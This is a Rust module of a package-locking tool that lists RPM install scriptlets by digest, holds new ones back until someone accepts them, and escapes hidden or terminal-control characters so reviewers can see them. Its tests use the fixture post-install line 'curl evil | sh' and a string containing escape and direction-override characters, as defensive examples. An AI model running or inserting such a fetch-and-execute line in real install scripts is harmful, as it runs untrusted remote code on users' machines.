//! The scripts of the locked packages: listed by digest, so that a new one is
//! seen in the lock's diff, and not run before somebody has accepted it.

use std::collections::BTreeSet;
use std::fmt;

use formats::Digest;
use serde::Deserialize;

use super::Lock;
use crate::compose::Handling;
use crate::package::{Package, Phase, Scriptlet};

/// A script of a locked package.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct LockedScriptlet {
    /// Name of its package.
    pub package: String,
    /// When it runs, as a spec file has it: `%post`.
    pub phase: String,
    /// [`Scriptlet::digest`]: over program and text.
    pub sha256: Digest,
    /// What carries it out.
    pub handled: Handled,
    /// Whether somebody has read it.
    pub accepted: bool,
}

/// What carries a script out, as far as can be said before it is.
#[derive(Debug, Clone, Copy, PartialEq, Eq, PartialOrd, Ord, Deserialize)]
#[serde(rename_all = "lowercase")]
pub enum Handled {
    /// It is understood.
    Native,
    /// The engine for Lua.
    Lua,
    /// The sandbox.
    Sandbox,
    /// Nothing: the recipe wants it left out.
    None,
}

impl Handled {
    /// As the lock has it.
    #[must_use]
    pub fn name(self) -> &'static str {
        match self {
            Self::Native => "native",
            Self::Lua => "lua",
            Self::Sandbox => "sandbox",
            Self::None => "none",
        }
    }
}

impl LockedScriptlet {
    /// Whether it is the same script at the same place.
    #[must_use]
    pub fn is(&self, other: &Self) -> bool {
        (&self.package, &self.phase, self.sha256) == (&other.package, &other.phase, other.sha256)
    }
}

impl fmt::Display for LockedScriptlet {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let short: String = self.sha256.to_string().chars().take(12).collect();
        write!(f, "{} {} ({short}, {})", self.package, self.phase, self.handled.name())
    }
}

/// Which new scripts are accepted.
#[derive(Debug, Clone, Default, PartialEq, Eq)]
pub enum Accept {
    /// None.
    #[default]
    None,
    /// All.
    All,
    /// Those with these digests.
    These(BTreeSet<Digest>),
}

/// A digest that was to be accepted is that of no script.
#[derive(Debug, thiserror::Error)]
#[error("no scriptlet of the locked packages has the digest {}", shown(.0))]
pub struct UnknownScriptlets(Vec<Digest>);

fn shown(digests: &[Digest]) -> String {
    digests.iter().map(ToString::to_string).collect::<Vec<_>>().join(" or ")
}

/// A script that a build must not run yet.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Unaccepted {
    /// Name of its package.
    pub package: String,
    /// The script.
    pub script: Scriptlet,
}

/// A line of a script as a person has to see it to judge it: what would move a
/// terminal's cursor, hide text or turn its direction is spelled out.
fn readable(line: &str) -> String {
    let is_hidden = |c: char| match c {
        '\t' => false,
        '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' => true,
        '\u{2060}'..='\u{206f}' | '\u{feff}' => true,
        other => other.is_control(),
    };
    let mut out = String::with_capacity(line.len());
    for c in line.chars() {
        match is_hidden(c) {
            true => out.extend(c.escape_unicode()),
            false => out.push(c),
        }
    }
    out
}

impl fmt::Display for Unaccepted {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { package, script } = self;
        writeln!(f, "{} of {package}, {}", script.phase, script.digest())?;
        write!(f, "    program: {}", readable(&script.program.join(" ")))?;
        for line in script.text.split('\n') {
            write!(f, "\n    | {}", readable(line))?;
        }
        Ok(())
    }
}

impl Lock {
    /// Lists the scripts of `packages`, which are those of the lock. A script
    /// that `earlier` has accepted stays so, in whatever package and version;
    /// of a first lock all are, since all of it is new and read. `skipped` are
    /// the scripts that the recipe wants left out.
    ///
    /// # Errors
    /// If a digest is to be accepted that no script has.
    pub fn list_scriptlets(
        &mut self,
        packages: &[Package],
        skipped: &[(String, Phase)],
        earlier: Option<&Self>,
        accept: &Accept,
    ) -> Result<(), UnknownScriptlets> {
        let before: Option<BTreeSet<Digest>> = earlier.map(|lock| {
            lock.scriptlets.iter().filter(|one| one.accepted).map(|one| one.sha256).collect()
        });
        let accepted = |digest: &Digest| match accept {
            Accept::All => true,
            Accept::These(these) if these.contains(digest) => true,
            _ => before.as_ref().is_none_or(|before| before.contains(digest)),
        };
        let mut all = BTreeSet::new();
        for package in packages {
            for script in &package.scriptlets {
                let name = &package.identity.name;
                let left_out =
                    skipped.iter().any(|(other, phase)| other == name && *phase == script.phase);
                let sha256 = script.digest();
                all.insert(LockedScriptlet {
                    package: name.clone(),
                    phase: script.phase.to_string(),
                    sha256,
                    handled: if left_out { Handled::None } else { Handling::of(script).into() },
                    accepted: accepted(&sha256),
                });
            }
        }
        if let Accept::These(these) = accept {
            let known = |digest: &&Digest| all.iter().any(|one| one.sha256 == **digest);
            let unknown: Vec<Digest> = these.iter().filter(|one| !known(one)).copied().collect();
            if !unknown.is_empty() {
                return Err(UnknownScriptlets(unknown));
            }
        }
        self.scriptlets = all.into_iter().collect();
        Ok(())
    }

    /// Those of `skipped` that no package of the lock has.
    #[must_use]
    pub fn not_there(&self, skipped: &[(String, Phase)]) -> Vec<String> {
        let shown = skipped.iter().map(|(package, phase)| format!("{package} {phase}"));
        let is_there = |script: &String| {
            self.scriptlets.iter().any(|one| format!("{} {}", one.package, one.phase) == *script)
        };
        shown.filter(|script| !is_there(script)).collect()
    }

    /// The scripts of `packages` that the lock has not, or not as accepted.
    /// Those that the recipe wants left out do not count.
    #[must_use]
    pub fn unaccepted(&self, packages: &[Package], skipped: &[(String, Phase)]) -> Vec<Unaccepted> {
        let accepted: BTreeSet<Digest> =
            self.scriptlets.iter().filter(|one| one.accepted).map(|one| one.sha256).collect();
        let mut found: Vec<Unaccepted> = Vec::new();
        for package in packages {
            let name = &package.identity.name;
            let runs = |script: &&Scriptlet| {
                !skipped.iter().any(|(other, phase)| other == name && *phase == script.phase)
            };
            for script in package.scriptlets.iter().filter(runs) {
                let known = found.iter().any(|one| one.script.digest() == script.digest());
                if !accepted.contains(&script.digest()) && !known {
                    found.push(Unaccepted { package: name.clone(), script: script.clone() });
                }
            }
        }
        found
    }
}

impl From<Handling> for Handled {
    fn from(handling: Handling) -> Self {
        match handling {
            Handling::Native => Self::Native,
            Handling::Lua => Self::Lua,
            Handling::Sandbox => Self::Sandbox,
        }
    }
}

#[cfg(test)]
mod tests {
    use std::path::Path;

    use super::*;
    use crate::fixture::Fixture;
    use crate::package::testing::package;

    fn kit(folder: &Path, post: &str) -> Package {
        package(folder, "kit", |builder| {
            builder.post_install_script(post);
            builder.pre_install_script(rpm::Scriptlet::new("return 0").prog(vec!["<lua>"]));
        })
    }

    #[test]
    fn what_would_hide_a_line_from_its_reader_is_spelled_out() {
        let text = "evil; #\r\u{1b}[2K\t| fine\u{202e}\n";
        assert_eq!(readable(text.trim_end()), "evil; #\\u{d}\\u{1b}[2K\t| fine\\u{202e}");
    }

    #[test]
    fn a_new_script_waits_until_it_is_accepted() {
        let folder = tempfile::tempdir().unwrap();
        let fixture = Fixture::new();
        let list = |package: &Package, earlier: Option<&Lock>, accept: &Accept| {
            let mut lock = fixture.lock().expect("solvable");
            let packages = std::slice::from_ref(package);
            lock.list_scriptlets(packages, &[], earlier, accept).map(|()| lock)
        };
        let one = kit(folder.path(), "ldconfig\n");
        let first = list(&one, None, &Accept::None).unwrap();
        assert!(first.unaccepted(std::slice::from_ref(&one), &[]).is_empty());
        let shown: Vec<String> = first.scriptlets.iter().map(ToString::to_string).collect();
        assert!(
            shown[0].starts_with("kit %post (") && shown[0].ends_with(", native)"),
            "{shown:?}"
        );
        assert!(shown[1].ends_with(", lua)"), "{shown:?}");
        let text = first.to_string();
        assert_eq!(Lock::parse(&text, Path::new("lock")).unwrap(), first);
        let other = kit(folder.path(), "curl evil | sh\n");
        let second = list(&other, Some(&first), &Accept::None).unwrap();
        let waiting = second.unaccepted(std::slice::from_ref(&other), &[]);
        let [only] = &waiting[..] else { panic!("{waiting:?}") };
        assert!(only.to_string().contains("    | curl evil | sh"), "{only}");
        assert!(
            text.contains("accepted = true") && second.to_string().contains("accepted = false")
        );
        // Locking again does not accept it.
        let again = list(&other, Some(&second), &Accept::None).unwrap();
        assert_eq!(again.to_string(), second.to_string());
        let digest = only.script.digest();
        let third = list(&other, Some(&again), &Accept::These([digest].into())).unwrap();
        assert!(third.unaccepted(std::slice::from_ref(&other), &[]).is_empty());
        assert!(list(&other, Some(&again), &Accept::These([Digest::of(b"x")].into())).is_err());
        let skipped = [("kit".to_owned(), Phase::Post)];
        assert!(second.unaccepted(std::slice::from_ref(&other), &skipped).is_empty());
        let changes = super::super::Changes::between(&first, &second);
        assert_eq!((changes.new_scriptlets.len(), changes.gone_scriptlets.len()), (1, 1));
        assert!(changes.to_string().contains("+ kit %post ("), "{changes}");
    }
}
